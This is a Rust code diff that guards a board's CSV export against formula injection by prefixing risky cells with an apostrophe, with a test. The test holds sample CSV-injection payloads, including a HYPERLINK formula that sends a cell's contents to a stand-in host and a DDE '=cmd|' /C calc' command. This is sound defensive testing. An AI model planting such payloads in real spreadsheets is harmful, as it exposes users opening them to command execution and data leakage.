@@ -21,6 +21,20 @@ pub const HEADERS: [&str; 13] = [
     "Id",
 ];
 
+/// A cell as text, never as a formula: Excel (and LibreOffice) read a cell
+/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or
+/// their full-width forms) as a formula, so a title like
+/// `=HYPERLINK(…)` would become a live link, and `+31 20 123` an error.
+/// Such a cell gets a leading apostrophe, which Excel shows as text.
+pub fn as_text(cell: String) -> String {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠') => {
+            format!("'{cell}")
+        }
+        _ => cell,
+    }
+}
+
 fn row(board: &Board, item: &Item) -> Vec<String> {
     let date = |d: Option<chrono::NaiveDate>| d.map(s::date).unwrap_or_default();
     let line = board
@@ -62,7 +76,8 @@ pub fn export(board: &Board) -> Vec<u8> {
         for cell in board.cells() {
             for id in board.cell_ids(cell) {
                 if let Some(item) = board.item(id) {
-                    w.write_record(row(board, item)).expect("writing to memory");
+                    let cells = row(board, item).into_iter().map(as_text);
+                    w.write_record(cells).expect("writing to memory");
                 }
             }
         }
@@ -105,5 +120,61 @@ mod tests {
         assert_eq!(&race[8], "Extern");
         let first = rows.iter().find(|r| r[12] == id.to_string()).unwrap();
         assert_eq!(&first[3], "regel 1; met \"aanhalingstekens\"\nregel 2");
+    }
+
+    #[test]
+    fn cells_that_would_be_formulas_read_back_as_text() {
+        let mut b = nieuw_west_zuid();
+        let dangerous = [
+            "=HYPERLINK(\"http://example.invalid/?\"&A2,\"Klik hier\")",
+            "@SUM(A1:A9)",
+            "-2+3",
+            "+31 20 123 4567",
+            "\tverborgen",
+            "\r=1+1",
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠SUM(A1)",
+        ];
+        let ids: Vec<_> = b.items.iter().map(|i| i.id).take(dangerous.len()).collect();
+        for (id, text) in ids.iter().zip(dangerous) {
+            b.edit_item(*id, Edit::Title(text.into()), t(1)).unwrap();
+        }
+        b.edit_item(ids[0], Edit::Trekker("=cmd|' /C calc'!A0".into()), t(1))
+            .unwrap();
+        b.edit_item(ids[1], Edit::Tags(vec!["-label".into()]), t(1))
+            .unwrap();
+        let column = b.columns[0].id;
+        b.rename_column(column, "=2+2", t(1)).unwrap();
+        let bytes = export(&b);
+        let mut r = ::csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .from_reader(&bytes[3..]);
+        let rows: Vec<::csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
+        for (id, text) in ids.iter().zip(dangerous) {
+            let row = rows.iter().find(|r| r[12] == id.to_string()).unwrap();
+            assert_eq!(&row[2], format!("'{text}"), "{text:?}");
+        }
+        let first = rows.iter().find(|r| r[12] == ids[0].to_string()).unwrap();
+        assert_eq!(&first[4], "'=cmd|' /C calc'!A0");
+        let second = rows.iter().find(|r| r[12] == ids[1].to_string()).unwrap();
+        assert_eq!(&second[9], "'-label");
+        assert!(rows.iter().any(|r| &r[1] == "'=2+2"));
+        // Nothing else is touched: no cell in the file starts a formula,
+        // and ordinary text, dates and ids are as they were.
+        for row in &rows {
+            for cell in row.iter() {
+                let first = cell.chars().next();
+                assert!(
+                    !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
+                    "{cell:?}"
+                );
+            }
+        }
+        let last = b.items[10].clone();
+        let plain = rows.iter().find(|r| r[12] == last.id.to_string()).unwrap();
+        assert_eq!(&plain[2], last.title);
+        assert!(rows.iter().all(|r| r[10].starts_with(|c: char| c.is_ascii_digit())));
     }
 }
